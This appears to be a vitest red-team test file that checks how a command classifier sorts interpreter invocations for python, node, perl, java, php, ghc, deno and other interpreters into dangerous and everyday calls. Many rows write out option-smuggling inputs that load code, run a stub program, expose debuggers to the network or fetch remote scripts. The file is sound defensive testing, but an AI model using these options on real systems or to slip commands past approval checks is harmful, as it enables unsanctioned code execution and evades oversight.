/**
 * Red-team table for issue 16's option allowlists of the interpreters (python, node, ruby, perl,
 * java: programs/interpreterOptions.ts). "verified" rows were run with a sandboxed bash trace (bubblewrap + strace)
 * (bwrap + strace, a stub `./x` that touches a file) and seen to run it or write the file; the
 * others cite the program's manual or `--help`. ruby is not installed here: its rows cite ruby(1).
 */
import { describe } from 'vitest';
import { itClassifiesRows, type Row } from './redteam.testkit.js';

const ROWS: readonly Row[] = [
  // ── Options that load code ──
  ["perl '-Mstrict;system q(./x)' y.pl", 'compound', 'verified: perl spliced the text into `use strict;…` and ran ./x'],
  ['perl -I ~/lib -MEvil y.pl', 'compound', 'verified: Evil.pm from the folder outside the project ran ./x'],
  ['perl -I/tmp y.pl', 'compound', 'perlrun -I: a load-path folder outside the project (the script’s `use` finds it)'],
  ["perl '-d:Foo;system q(./x)' y.pl", 'compound', 'perlrun -d:MOD: `use Devel::MOD…` is built from the text'],
  ['node --env-file=/tmp/e.env y.js', 'compound', 'verified (in-project copy): NODE_OPTIONS=--require ./h.js in the file ran ./x'],
  ['node --test-reporter=./r.mjs --test t/', 'compound', 'verified: the reporter module ran ./x'],
  ['node --inspect=0.0.0.0:9229 y.js', 'compound', 'verified: "Debugger listening on ws://0.0.0.0:…": anyone on the network can run code'],
  ['node --openssl-config=/tmp/c.cnf y.js', 'compound', 'node --help: OpenSSL config (engines load modules); not in the allowlist'],
  ['node --experimental-network-imports y.mjs', 'compound', 'node --help: imports code over http(s)'],
  ['ruby -r/tmp/x y.rb', 'compound', 'ruby(1) -r: requires the file it names before the script'],
  ['ruby -I /tmp -rx y.rb', 'compound', 'ruby(1) -I: a load-path folder outside the project'],
  ['java -javaagent:/tmp/a.jar Main', 'compound', 'java(1) -javaagent: loads the agent’s premain'],
  ['java -agentpath:/tmp/libx.so Main', 'compound', 'java(1) -agentpath: loads a native agent library'],
  ['java -Xbootclasspath/a:/tmp/c Main', 'compound', 'java -X: classes prepended to the boot class path'],
  ['java -Djava.system.class.loader=Evil Main', 'compound', 'ClassLoader docs: the class loader the JVM instantiates'],
  ['java @opts Main', 'compound', 'java(1) @argfiles: the file holds any option (-javaagent, -XX:OnError)'],
  // ── Options that run a program, or that the allowlist does not know ──
  ['java -XX:OnOutOfMemoryError=./x -Xmx8m Main', 'compound', 'java(1) -XX:OnOutOfMemoryError runs the command'],
  ["java -XX:OnError='sh -c id' Main", 'compound', 'java(1) -XX:OnError runs the command on a crash'],
  ['java -XX:Flags=/tmp/f Main', 'compound', 'HotSpot: reads more -XX options from the file'],
  ['python3 -X presite=evil y.py', 'compound', 'python 3.13 --help-xoptions: presite imports the module first'],
  ['python3 --frob y.py', 'compound', 'not in `python3 --help`'],
  ['node --frob y.js', 'compound', 'not in `node --help`'],
  ['node --run build', 'compound', 'node 22: runs the package.json script through a shell'],
  ['ruby --frob y.rb', 'compound', 'not in ruby(1)'],
  ['perl -u y.pl', 'compound', 'perlrun -u: dumps core (not in the allowlist)'],
  ['java --frob Main', 'compound', 'not in `java -help`'],
  // ── Options that write a file they name ──
  ['node --redirect-warnings=/tmp/w y.js', 'compound', 'verified: node wrote /tmp/w'],
  ['node --heap-prof --heap-prof-dir=/tmp/hp y.js', 'compound', 'verified: node wrote /tmp/hp/Heap.….heapprofile'],
  ['node --test --test-reporter-destination=/tmp/r t/', 'compound', 'node docs: the reporter writes that file'],
  ['python3 -X pycache_prefix=/tmp/pc y.py', 'compound', 'python docs -X pycache_prefix: .pyc files written under it'],
  ['java -Xlog:gc:file=/tmp/g Main', 'compound', 'java(1) -Xlog: output to the file'],
  ['java -XX:+HeapDumpOnOutOfMemoryError -XX:HeapDumpPath=/tmp/h.hprof Main', 'compound', 'java(1): the heap dump file'],
  ['java -XX:ErrorFile=/tmp/err.log Main', 'compound', 'java(1) -XX:ErrorFile: the crash log'],
  // ── Existing keys stay ──
  ["python3 -c 'import os'", 'compound', 'inline code'],
  ["python3 -I -c 'import os'", 'compound', 'inline code after a flag'],
  ['node -r ./hook.js y.js', 'compound', 'node -r preloads a module'],
  ["perl -ne 'print' f", 'compound', 'inline code'],
  ["ruby -e 'puts 1'", 'compound', 'inline code'],
  // ── Everyday forms that stay one simple call ──
  ['python3 -X dev -W error y.py', 'simple', '-X dev, a warnings filter'],
  ['python -m pytest -q tests', 'simple', 'options after -m are the module’s, read by its program’s rule (pythonModule.ts)'],
  ['python -m pytest -q --frob', 'compound', 'pytest does not define --frob: through python -m as when run as pytest'],
  ['python3 -u -B manage.py runserver 8000', 'simple', 'ordinary'],
  ['python3 y.py --frob', 'simple', 'options after the script are the script’s'],
  ['node --inspect src/index.js', 'simple', 'debugger on the loopback'],
  ['node --inspect-brk=127.0.0.1:9230 y.js', 'simple', 'debugger on the loopback'],
  ['node --max-old-space-size=4096 --enable-source-maps dist/a.js', 'simple', 'V8 heap size'],
  ['node --test --test-reporter=spec --experimental-test-coverage', 'simple', 'a built-in reporter'],
  ['node --env-file=.env --watch src/server.js', 'simple', 'the project’s env file'],
  ['node --no-warnings --expose-gc y.js', 'simple', 'ordinary'],
  ['ruby -w -rjson y.rb', 'simple', 'a library by name'],
  ['perl -Ilib -MData::Dumper y.pl', 'simple', 'a project folder, a module by name'],
  ['perl -wc y.pl', 'simple', 'syntax check'],
  ['java -Xmx512m -XX:+UseG1GC -Dspring.profiles.active=dev -jar app.jar --port 8080', 'simple', 'ordinary'],
  ['java -cp build/classes:lib/a.jar com.example.Main', 'simple', 'a class path'],
  ['java -version', 'simple', 'ordinary'],
  ['java -XX:+HeapDumpOnOutOfMemoryError -XX:MaxRAMPercentage=75 -jar app.jar', 'simple', 'heap dump into the working folder'],
];

describe('red team: interpreter option allowlists (issue 16)', () => {
  itClassifiesRows(ROWS);
});

/**
 * Issue 25: the interpreters that had no table (programs/languageOptions.ts). The "verified" row
 * was run under bubblewrap with strace; the others cite the program's manual, `--help` or parser
 * source (named at each table): most of these programs are not installed here.
 */
const MORE_ROWS: readonly Row[] = [
  // ── Options that run or load code, or name a program ──
  ['tclsh -foo', 'compound', 'verified: tclsh -foo read its commands from stdin and ran the `exec ./x` piped to it'],
  ['php -d auto_prepend_file=/tmp/e.php app.php', 'compound', 'php.ini directives: auto_prepend_file is required before the script'],
  ['php -d extension=./e.so app.php', 'compound', 'php.ini directives: extension loads a shared library'],
  ['php -d sendmail_path=./x app.php', 'compound', 'php.ini directives: mail() runs sendmail_path'],
  ['php -c php.ini app.php', 'compound', 'php(1) -c: a php.ini can set auto_prepend_file'],
  ['php -z ./e.so app.php', 'compound', 'php(1) -z: loads a Zend extension'],
  ["php -B 'system(1);' -R 1", 'compound', 'php(1) -B: code run before the input lines'],
  ['php -S 0.0.0.0:8000', 'compound', 'php(1) -S: serves the folder’s PHP to every host on the network'],
  ['R -d ./x', 'compound', 'R(1) -d: runs R through the debugger NAME'],
  ['R CMD INSTALL ../pkg', 'compound', 'R(1) CMD INSTALL: builds and installs a package (runs its configure)'],
  ['Rscript -e \'system("./x")\'', 'compound', 'Rscript(1) -e: inline code'],
  ['lua -l ./evil y.lua', 'compound', 'lua(1) -l: requires what it names; a path, not a module name'],
  ['luajit -jdump=+rs,/tmp/o y.lua', 'compound', 'luajit(1) -j: jit.dump writes the file after the comma'],
  ['luajit -b y.lua /tmp/y.o', 'compound', 'luajit(1) -b: saves bytecode to the file'],
  ['ghc -pgmc ./x Main.hs', 'compound', 'ghc(1) -pgmc: the program ghc runs as its C compiler'],
  ['ghc -optl-fuse-ld=/tmp/ld Main.hs', 'compound', 'ghc(1) -optl: options handed to the linker'],
  ['ghc -fplugin=Evil Main.hs', 'compound', 'ghc(1) -fplugin: loads a compiler plugin'],
  ['ghc -package-db /tmp/db Main.hs', 'compound', 'ghc(1) -package-db: a package database (its libraries are linked and loaded)'],
  ['ghc --frontend Evil', 'compound', 'ghc(1) --frontend: runs a frontend plugin'],
  ['julia --machine-file hosts y.jl', 'compound', 'julia --help: starts workers over ssh on the hosts listed'],
  ['julia -J /tmp/sys.so y.jl', 'compound', 'julia --help -J: the system image is code'],
  ["elixir --erl '-s os cmd' y.exs", 'compound', 'elixir(1) --erl: switches handed to the Erlang VM'],
  ['elixir --vm-args /tmp/a y.exs', 'compound', 'bin/elixir --vm-args: the file’s contents are VM arguments'],
  ['elixir --sname x y.exs', 'compound', 'elixir(1) --sname: a distributed node others holding the cookie can drive'],
  ['racket -fe y.rkt \'(system "./x")\'', 'compound', 'racket -h: collapsed switches take their arguments after the cluster'],
  ['racket -p evil/pkg', 'compound', 'racket -h -p: requires a PLaneT package, fetched from the network'],
  ['guile -e \'(system "./x")\' -s y.scm', 'compound', 'guile(1) -e: FUNCTION is evaluated'],
  ['sbcl --core /tmp/x.core', 'compound', 'sbcl(1) --core: the core image is code'],
  ['clisp -K /tmp/set y.lisp', 'compound', 'clisp(1) -K: runs the linking set’s lisp.run'],
  ['clisp -Eterminal utf-8 -x 1', 'compound', 'clisp(1) -E takes two words: not read, compound'],
  ['gnuplot -e "system(\'./x\')" p.gp', 'compound', 'gnuplot(1) -e: commands, system() runs a shell command'],
  ['octave --info-program ./x', 'compound', 'octave options.h: the program that reads info files'],
  ['ipython --InteractiveShellApp.exec_lines=x y.py', 'compound', 'IPython config: exec_lines run before the file'],
  ['ipython --ext=evil y.py', 'compound', 'ipython --help: loads an extension module'],
  ['ts-node --compiler ./c.js y.ts', 'compound', 'ts-node --help -C: a custom TypeScript compiler module'],
  ['tsx --import ./h.mjs y.ts', 'compound', 'tsx hands node’s flags to node: --import preloads a module'],
  ['deno run https://example.com/x.ts', 'compound', 'docs.deno.com Modules: a script by URL is fetched and run'],
  ['deno run --v8-flags=--prof y.ts', 'compound', 'deno run --help: flags handed to V8 (--prof writes a log)'],
  ['deno compile y.ts', 'compound', 'no table for deno compile'],
  ['scala -Xplugin:/tmp/p.jar y.scala', 'compound', 'scalac(1) -Xplugin: loads a compiler plugin'],
  ['groovy -l 8080 y.groovy', 'compound', 'groovy(1) -l: listens on a port and runs the script on every line received'],
  ['jrunscript -J-agentpath:/tmp/a.so y.js', 'compound', 'jrunscript(1) -J: a JVM option (an agent)'],
  ["dc --expression='!./x'", 'compound', 'dc(1): `!` runs a shell command'],
  // ── Everyday forms that stay one simple call ──
  ['php artisan migrate', 'simple', 'ordinary'],
  ['php -S localhost:8000 -t public', 'simple', 'a dev server on the loopback'],
  ['php -d memory_limit=-1 vendor/bin/phpunit', 'simple', 'a sizing INI setting'],
  ['Rscript analysis.R', 'simple', 'ordinary'],
  ['R -q --vanilla -f analysis.R', 'simple', 'ordinary'],
  ['lua main.lua', 'simple', 'ordinary'],
  ['ghc -O2 -Wall Main.hs -o app', 'simple', 'ordinary'],
  ['julia --project=. -t 4 src/main.jl', 'simple', 'ordinary'],
  ['elixir -S mix test', 'simple', 'mix found on the PATH'],
  ['racket main.rkt', 'simple', 'ordinary'],
  ['deno run -A main.ts', 'simple', 'the script’s permissions are deno’s sandbox'],
  ['deno test --allow-read', 'simple', 'ordinary'],
  ['ts-node src/index.ts', 'simple', 'ordinary'],
  ['tsx watch src/index.ts', 'simple', 'ordinary'],
  ['ipython script.py', 'simple', 'ordinary'],
  ['octave --no-gui script.m', 'simple', 'ordinary'],
  ['gnuplot -p plot.gp', 'simple', 'ordinary'],
  ['tclsh build.tcl', 'simple', 'ordinary'],
];

describe('red team: the other interpreters’ option allowlists (issue 25)', () => {
  itClassifiesRows(MORE_ROWS);
});
